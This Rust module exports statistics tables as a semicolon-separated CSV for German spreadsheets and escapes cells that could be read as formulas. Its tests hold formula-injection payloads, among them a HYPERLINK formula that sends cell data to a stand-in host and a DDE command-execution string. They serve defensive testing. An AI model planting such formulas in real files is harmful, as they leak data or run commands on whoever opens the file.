//! The tables as a file that German spreadsheet programs open: semicolons, UTF-8 with its mark, a comma in front of tenths.
//!
//! What a spreadsheet would take for a formula is marked as text.

use csv::{QuoteStyle, Terminator, WriterBuilder};

use super::{FiguresPage, Table};
use crate::refusal::{Fault, Outcome};

/// What tells spreadsheet programs that the file is UTF-8.
const MARK: &str = "\u{feff}";

/// Every table of the page, one below the other: table, line, figure, and what stands beside it.
///
/// # Errors
/// Never in practice: it is written to memory.
pub fn file(page: &FiguresPage) -> Outcome<Vec<u8>> {
    let mut writer = WriterBuilder::new()
        .delimiter(b';')
        .quote_style(QuoteStyle::Necessary)
        .terminator(Terminator::CRLF)
        .from_writer(MARK.as_bytes().to_vec());
    let mut put = |cells: [&str; 4]| writer.write_record(cells.map(as_text));
    let fault = |error: csv::Error| Fault(Box::new(error));
    put(["Tabelle", "Zeile", "Termine", "Vorlauf im Mittel"]).map_err(fault)?;
    put(["Zeitraum", &page.period, "", ""]).map_err(fault)?;
    put(["Amt", &page.scope, "", ""]).map_err(fault)?;
    put(["Insgesamt", "", &bare(&page.all), ""]).map_err(fault)?;
    for Table { name, rows, few, .. } in &page.tables {
        for row in rows {
            put([name, &row.name, &bare(&row.figure), &row.beside]).map_err(fault)?;
        }
        for one in few {
            put([name, one, "unter 5", ""]).map_err(fault)?;
        }
    }
    if let Some(load) = &page.load {
        for (day, cells) in &load.days {
            for (hour, cell) in load.hours.iter().zip(cells) {
                let told = cell.figure.replace("< ", "unter ");
                put([
                    "Nach Wochentag und Uhrzeit",
                    &format!("{day}, {hour}"),
                    &bare(&told),
                    "",
                ])
                .map_err(fault)?;
            }
        }
    }
    let written = writer
        .into_inner()
        .map_err(|error| Fault(error.into_error().into()))?;
    Ok(written)
}

/// A number without the dots of its thousands.
fn bare(figure: &str) -> String {
    let digits: String = figure.chars().filter(|sign| *sign != '.').collect();
    if digits.bytes().all(|byte| byte.is_ascii_digit()) {
        digits
    } else {
        figure.to_owned()
    }
}

/// A cell that no spreadsheet takes for a formula: those begin with one of a few signs, also behind blanks.
fn as_text(cell: &str) -> String {
    let begins = |sign: char| {
        matches!(
            sign,
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠'
        )
    };
    let first = cell
        .chars()
        .find(|sign| *sign == '\t' || *sign == '\r' || *sign == '\n' || !sign.is_whitespace());
    if first.is_some_and(begins) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::views::desk::figures::Row;

    fn written(name: &str) -> String {
        let row = Row {
            name: name.to_owned(),
            figure: "12.345".to_owned(),
            beside: "6,3 Tage".to_owned(),
            ..Row::default()
        };
        let table = Table {
            name: "Nach Anliegen",
            rows: vec![row],
            few: vec!["Fischereischein".to_owned()],
            ..Table::default()
        };
        let page = FiguresPage {
            all: "12.345".to_owned(),
            tables: vec![table],
            ..FiguresPage::default()
        };
        String::from_utf8(file(&page).unwrap()).unwrap()
    }

    #[test]
    fn it_opens_as_a_german_spreadsheet_expects() {
        let text = written("Pass; eilig");
        let rest = text.strip_prefix('\u{feff}').expect("the mark of UTF-8");
        let lines: Vec<_> = rest.split("\r\n").collect();
        assert_eq!(lines[0], "Tabelle;Zeile;Termine;Vorlauf im Mittel");
        assert_eq!(lines[3], "Insgesamt;;12345;");
        assert_eq!(lines[4], "Nach Anliegen;\"Pass; eilig\";12345;6,3 Tage");
        assert_eq!(lines[5], "Nach Anliegen;Fischereischein;unter 5;");
        assert!(text.ends_with("\r\n"));
    }

    // S-54, S-59: what is typed in a name of a service is never a formula to whoever opens the file.
    #[test]
    fn no_cell_is_a_formula() {
        for payload in [
            "=1+1",
            "+49221",
            "-1+1",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\0=1+1",
            " =1+1",
            "\u{a0}=1+1",
            "＝1+1",
            "=HYPERLINK(\"http://x.example?\"&A1;\"Klick\")",
            "=cmd|' /C calc'!A0",
            "\";=1+1;\"",
            "a\r\n=1+1",
            "@",
            "-",
        ] {
            let text = written(payload);
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(b';')
                .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            let records: Vec<_> = reader.records().map(|record| record.expect("a line")).collect();
            assert_eq!(records.len(), 5, "{payload:?} makes no line of its own");
            for cell in records.iter().flat_map(csv::StringRecord::iter) {
                let first = cell.trim_start_matches([' ', '\u{a0}']).chars().next();
                assert!(
                    !first.is_some_and(|sign| "=+-@\t\r\n\0＝".contains(sign)),
                    "{payload:?}: {cell:?}"
                );
            }
            assert!(records[3][1].ends_with(payload), "nothing of it is lost");
        }
    }
}
